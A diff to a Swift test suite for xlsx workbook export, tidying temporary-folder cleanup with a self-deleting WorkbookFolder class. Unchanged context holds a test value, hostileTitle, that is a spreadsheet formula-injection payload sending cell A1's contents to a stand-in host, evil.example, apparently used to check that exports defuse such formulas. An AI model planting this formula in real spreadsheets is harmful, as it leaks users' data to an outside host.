@@ -8,10 +8,11 @@ import Testing
 
 @Suite("xlsx files")
 struct WorkbookFileTests {
-    private let folder = NSTemporaryDirectory() + "koers-workbook-\(UUID().uuidString)"
+    private let temporary: WorkbookFolder
+    private var folder: String { temporary.path }
 
     init() throws {
-        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
+        temporary = try WorkbookFolder()
     }
 
     private static let hostileTitle = "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")"
@@ -127,3 +128,14 @@ struct WorkbookFileTests {
 }
 
 private let hasOpenpyxl = (try? WorkbookFileTests.run("/usr/bin/python3", ["-c", "import openpyxl"])) != nil
+
+/// A fresh folder for one test, removed with its files when the test ends.
+private final class WorkbookFolder: Sendable {
+    let path = NSTemporaryDirectory() + "koers-workbook-\(UUID().uuidString)"
+
+    init() throws {
+        try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
+    }
+
+    deinit { try? FileManager.default.removeItem(atPath: path) }
+}
